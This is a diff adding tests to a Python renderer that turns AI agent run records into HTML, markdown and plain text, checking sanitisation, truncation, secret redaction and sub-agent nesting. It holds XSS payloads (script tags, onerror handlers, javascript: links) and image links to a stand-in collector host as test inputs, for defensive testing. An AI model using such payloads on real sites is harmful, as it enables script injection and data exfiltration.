@@ -1,6 +1,12 @@
 """The static picture, byte for byte as it is drawn in the design."""
 
+import re
+from html.parser import HTMLParser
+
 from a2ui.told import Told
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from bread_nb import crumbs as c
 from bread_nb.a2ui.picture import picture
@@ -192,3 +198,376 @@ def test_the_markdown_of_an_end_is_the_text_with_the_name_in_bold():
     assert pictured.markdown.startswith(f"{bold}\n\n{note}\n\n- `work` n=0: done\n")
     strong = head.replace("baker", "<strong>baker</strong>", 1)
     assert pictured.html.startswith(f"<p>{strong}</p>\n<p>{note}</p>\n<details>")
+
+
+ALLOWED = {"p", "pre", "code", "strong", "em", "a", "ul", "ol", "li", "br", "hr"}
+ALLOWED |= {"table", "thead", "tbody", "tr", "th", "td", "details", "summary"}
+ALLOWED |= {"blockquote", "del", "ins", "h4", "h5", "h6"}
+HOSTILE = (
+    "<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>\n"
+    "[a](javascript:alert(4)) [b](JaVaScRiPt:alert(5)) [c](&#106;avascript:alert(6)) "
+    "<javascript:alert(7)> [d](data:text/html,x) [e](vbscript:x) [f](/files/x) "
+    "[g](//host/x)\n\n"
+    "![i](https://collector.example/p?d=CANARY) ![](https://collector.example/q)\n\n"
+    "[ref] ![ref]\n\n[ref]: javascript:alert(8)\n\n"
+    "<details open><summary>x</summary></details>\n\n"
+    "```html\n<script>alert(9)</script>\n"
+)
+
+
+class Markup(HTMLParser):
+    """What a browser would find in a picture."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.links += [value or "" for name, value in attrs if name == "href"]
+
+
+def markup(html: str) -> Markup:
+    found = Markup()
+    found.feed(html)
+    found.close()
+    return found
+
+
+def fears(html: str) -> list[str]:
+    found = markup(html)
+    bad = sorted(found.tags - ALLOWED) + sorted(
+        found.attributes - {"href", "open", "dir"}
+    )
+    return bad + [
+        link for link in found.links if not re.match(r"(https?|mailto):", link)
+    ]
+
+
+def rendered(markdown: str) -> str:
+    """The markdown by a renderer that allows everything it can."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    parser.validateLink = lambda _: True
+    return parser.render(markdown)
+
+
+def hostile() -> Told:
+    told = Told(HOSTILE[:40], model="<b>x</b>:y").start()
+    told.call("1", "<img src=x>", **{"<script>": HOSTILE}).done(
+        "1", "<img src=x>", HOSTILE
+    )
+    told.call("2", "b", a=HOSTILE).failed("2", "b", HOSTILE)
+    told.call("3", "c").failed("3", "c", "x", "DENIED")
+    told.say(c.FileGenerated, uri=HOSTILE, mime_type=HOSTILE, name=HOSTILE)
+    return told
+
+
+def test_nothing_a_model_or_a_tool_wrote_is_markup():
+    for told in (
+        hostile().text(HOSTILE).end(HOSTILE),
+        hostile().text(HOSTILE).ask("4", "p", x=HOSTILE),
+        hostile().text(HOSTILE).end({"x": HOSTILE}),
+        hostile().fail(HOSTILE, HOSTILE, HOSTILE),
+        hostile().end("", stop_reason=HOSTILE, note=HOSTILE),
+        hostile().ask("4", "p", "outcome", x=HOSTILE),
+    ):
+        pictured = picture(told.crumbs)
+        assert fears(pictured.html) == []
+        page = rendered(pictured.markdown)
+        found = markup(page)
+        assert found.tags & {"script", "img", "svg", "iframe", "details"} == set()
+        assert [a for a in found.attributes if a.startswith("on")] == []
+        assert [x for x in found.links if not re.match(r"(https?|mailto):", x)] == []
+
+
+def test_an_image_is_the_text_of_its_address():
+    told = Told().start().text("See ![a cat](https://collector.example/p?d=CANARY).")
+    pictured = picture(told.end().crumbs)
+    assert pictured.html.endswith(
+        "<p>See a cat (https://collector.example/p?d=CANARY).</p>"
+    )
+    assert "<img" not in rendered(pictured.markdown)
+
+
+PIECES = st.sampled_from(
+    [
+        "<",
+        ">",
+        "`",
+        "```\n",
+        "![",
+        "[",
+        "](",
+        ")",
+        "x",
+        "\n",
+        "\n\n",
+        "|",
+        "- ",
+        "$",
+        "javascript:",
+        "https://a.b",
+        "<script>",
+        "<a href=",
+        "]: ",
+        "*",
+        "_",
+        "#",
+        "&lt;",
+        "\\",
+        "~~",
+        "    ",
+        ">",
+        "1. ",
+        "\x00",
+        "\u202e",
+        "'",
+        '"',
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=40).map("".join))
+def test_no_text_of_a_model_becomes_markup(text):
+    told = Told().start().call("1", "x", a=text).done("1", "x", text).text(text)
+    pictured = picture(told.end().crumbs)
+    assert fears(pictured.html) == []
+    found = markup(rendered(pictured.markdown))
+    assert found.tags & {"script", "img"} == set()
+    assert [x for x in found.links if not re.match(r"(https?|mailto):", x)] == []
+
+
+@given(st.lists(PIECES, max_size=40).map("".join))
+def test_only_pre_holds_line_breaks(text):
+    html = picture(Told().start().text(text).end().crumbs).html
+    depth = 0
+    for line in html.split("\n"):
+        assert depth > 0 or line.startswith("<"), html
+        depth += line.count("<pre>") - line.count("</pre>")
+
+
+def test_the_markdown_of_a_model_becomes_html_from_h4_on():
+    text = "# One\n\n## Two\n\n### Three\n\n- a\n- b\n\n> q\n\n~~x~~ `y`\n\n"
+    text += "| a |\n|---|\n| 1 |\n\n---"
+    html = picture(Told().start().text(text).end().crumbs).html
+    assert html.split("\n")[1:] == [
+        "<h4>One</h4>",
+        "<h5>Two</h5>",
+        "<h6>Three</h6>",
+        "<ul>",
+        "<li>a</li>",
+        "<li>b</li>",
+        "</ul>",
+        "<blockquote>",
+        "<p>q</p>",
+        "</blockquote>",
+        "<p><del>x</del> <code>y</code></p>",
+        "<table>",
+        "<thead>",
+        "<tr><th>a</th></tr>",
+        "</thead>",
+        "<tbody>",
+        "<tr><td>1</td></tr>",
+        "</tbody>",
+        "</table>",
+        "<hr>",
+    ]
+
+
+def test_changing_one_word_changes_one_line():
+    def lines(word: str) -> list[str]:
+        text = f"One.\n\nTwo {word}\ngoes on.\n\nThree."
+        return picture(Told().start().text(text).end().crumbs).html.split("\n")
+
+    pairs = zip(lines("a"), lines("b"), strict=True)
+    assert sum(first != second for first, second in pairs) == 1
+
+
+def test_amounts_of_money_are_no_mathematics():
+    text = "It costs $5 or $6, and $x^2$ is a formula."
+    html = picture(Told().start().text(text).end().crumbs).html
+    assert "<p>It costs $5 or <em></em>$6, and <em></em>$x^2$ is a formula.</p>" in html
+
+
+def test_decisions_are_in_the_picture_and_who_made_them_is_not():
+    told = Told().start()
+    told.ask("1", "publish", title="Rye")
+    told.answer("1", {"approved": True, "args": {"title": "Wheat"}})
+    told.call("1", "publish", title="Wheat").done("1", "publish", "sent")
+    told.ask("2", "rm", path="/").answer("2", {"approved": False, "reason": "too long"})
+    told.say(
+        c.GateDecided,
+        tool_name="tool_rm_all",
+        decision="deny",
+        rule="deny tool:rm_*",
+        tool_call_id="3",
+    ).failed("3", "rm_all", "no", "DENIED")
+    told.ask("4", "human_approve", "input", question="Sure?")
+    told.answer("4", {"answer": "yes"}, "input")
+    pictured = picture(told.text("Done.").end("Done.").crumbs)
+    assert pictured.plain.split("\n")[1:] == [
+        '  publish title="Wheat": approved with changes, done',
+        '  rm path="/": denied by you: too long',
+        "  rm_all: denied by rule: deny tool:rm_*",
+        '  approve question="Sure?": answered, done',
+        "Done.",
+    ]
+    assert "<del>title: Rye</del>\n<ins>title: Wheat</ins>" in pictured.html
+
+
+def test_a_waiting_run_still_tells_its_decisions_and_failures():
+    told = Told("publisher").start().call("1", "draft").done("1", "draft")
+    told.call("2", "check").failed("2", "check", "No net.")
+    told.ask("3", "publish", a=1).ask("4", "publish", a=2)
+    pictured = picture(told.crumbs)
+    assert pictured.plain.split("\n") == [
+        "publisher waits for a person: publish a=1 and 1 more. "
+        "Answer with %bread pending",
+        "1 turn · 1 call done, 1 failed",
+        "  check: failed: No net.",
+    ]
+    assert pictured.html.endswith(
+        "<pre>publish\n  a: 1</pre>\n<pre>publish\n  a: 2</pre></details>"
+    )
+
+
+def test_the_picture_is_the_same_however_the_run_was_timed_and_named():
+    def drawn(run: str, at: int) -> object:
+        wire = [c.to_wire(crumb) for crumb in finished().crumbs]
+        for crumb in wire:
+            crumb.update(runId=run, sessionId=run, timestamp=at, seq=at)
+            for key in ("durationMs", "toolCallId", "uri"):
+                if key in crumb:
+                    crumb[key] = at if key == "durationMs" else f"{crumb[key]}-{at}"
+            at += 17
+        for key in ("toolCallId",):
+            for crumb in wire:
+                if key in crumb:
+                    crumb[key] = str(crumb[key]).partition("-")[0] + run
+        return picture([c.from_wire(crumb) for crumb in wire])
+
+    assert drawn("a", 1) == drawn("b", 99_999)
+    assert "99" not in drawn("b", 99_999).html  # pyright: ignore[reportAttributeAccessIssue]
+
+
+def test_a_long_answer_keeps_its_head_and_its_tail():
+    text = "a" * 150_000 + "b" * 1_204_113 + "c" * 20_000
+    pictured = picture(Told().start().text(text).end().crumbs)
+    note = "… 1,204,113 characters left out; all of it is in run.text"
+    assert f"a</p>\n<p>{note}</p>\n<p>c" in pictured.html
+    assert f"a\n\n{note}\n\nc" in pictured.markdown
+    assert len(pictured.plain) <= 4000
+    assert pictured.plain.endswith("all of it is in run.text")
+    whole = "d" * 200_000
+    assert whole in picture(Told().start().text(whole).end().crumbs).html
+
+
+def test_a_long_value_is_cut_at_20_lines_or_2_kb():
+    told = Told().start().call("1", "read").done("1", "read", "x\n" * 500)
+    told.call("2", "read").done("2", "read", "y" * 5000)
+    html = picture(told.end("ok").crumbs).html
+    assert html.count("x\n") == 20
+    assert "x\n… 480 more lines</pre>" in html
+    assert "y" * 2000 + "\n… 3,000 characters left out …</pre>" in html
+    assert "y" * 2001 not in html
+
+
+def test_all_calls_together_take_64_kb():
+    told = Told().start()
+    for n in range(200):
+        told.call(f"{n}", "read", n=n).done(f"{n}", "read", "z" * 1900)
+    pictured = picture(told.end("ok").crumbs)
+    assert len(pictured.html) < 66_000
+    assert re.search(r"<p>1\d\d more calls</p>\n<p>ok</p>$", pictured.html)
+    assert "200 calls" in pictured.plain
+    assert len(pictured.plain) < 4000
+
+
+def test_secrets_are_in_no_picture():
+    told = Told().start().call("1", "login", api_key="CANARY", user="ann")
+    told.done("1", "login", {"session_token": "CANARY"}).ask(
+        "2", "x", password="CANARY"
+    )
+    assert "CANARY" not in str(picture(told.crumbs))
+
+
+def test_fences_grow_longer_than_any_fence_inside():
+    pictured = picture(Told().start().end({"code": "````py\nx\n````"}).crumbs)
+    assert pictured.markdown.rpartition("\n")[2] == "`````"
+
+
+def test_a_fence_that_was_cut_off_is_closed_in_markdown():
+    told = Told().start().text("```py\nx = 1").fail("RUN_CANCELLED", "x")
+    assert picture(told.crumbs).markdown.endswith("```py\nx = 1\n```")
+
+
+def test_json_as_output_is_shown_as_data():
+    told = Told().start().text('{"n":1}').end({"n": 1})
+    assert picture(told.crumbs).html.endswith('<pre>{"n": 1}</pre>')
+
+
+def test_a_local_model_takes_no_charge():
+    told = Told(model="local:smollm2-135m").start().used(812, 0.0).end("Hi.")
+    assert picture(told.crumbs).plain.split("\n")[0] == (
+        "analyst finished · local:smollm2-135m · 1 turn · 0 calls · 812 tokens · "
+        "no charge (local)"
+    )
+
+
+def test_what_is_unknown_is_left_out():
+    told = Told(model="openai:gpt-5").start().used().end("Hi.")
+    assert picture(told.crumbs).plain.split("\n")[0] == (
+        "analyst finished · openai:gpt-5 · 1 turn · 0 calls"
+    )
+
+
+def tree(agents: int, failing: int = -1) -> Told:
+    told = Told("lead").start()
+    for n in range(agents):
+        child = {"run_id": f"child-{n}", "agent_id": "worker"}
+        told.say(c.SubagentStart, **child, parent_agent_id="lead", subagent_id="worker")
+        told.say(
+            c.ToolCalled,
+            **child,
+            tool_call_id="x",
+            tool_name="tool_read",
+            args={"n": n},
+        )
+        told.say(
+            c.ToolReturned,
+            **child,
+            tool_call_id="x",
+            tool_name="tool_read",
+            result=n,
+            duration_ms=1,
+        )
+        if n == failing:
+            told.say(c.RunFailed, **child, error=c.ErrorInfo("X", "No ticket."))
+        else:
+            told.say(c.RunEnd, **child, output="ok", duration_ms=1)
+    return told.end("Done.")
+
+
+def test_sub_agents_nest_in_every_form():
+    pictured = picture(tree(1).crumbs)
+    assert pictured.html.split("\n")[1:-1] == [
+        "<details><summary><strong>worker</strong> finished · 1 call</summary>",
+        "<details><summary><code>read</code> n=0: done</summary><pre>0</pre></details>",
+        "<pre>ok</pre>",
+        "</details>",
+    ]
+    assert "- **worker** finished · 1 call\n  - `read` n=0: done\n" in pictured.markdown
+    assert "  worker finished · 1 call\n    read n=0: done\n" in pictured.plain
+
+
+def test_many_sub_agents_of_one_name_are_counted_and_failures_listed():
+    plain = picture(tree(50, failing=22).crumbs).plain
+    assert plain.split("\n")[1:] == [
+        "  worker × 50: 49 finished, 1 failed",
+        "    worker failed: X · 1 call: No ticket.",
+        "      read n=22: done",
+        "Done.",
+    ]
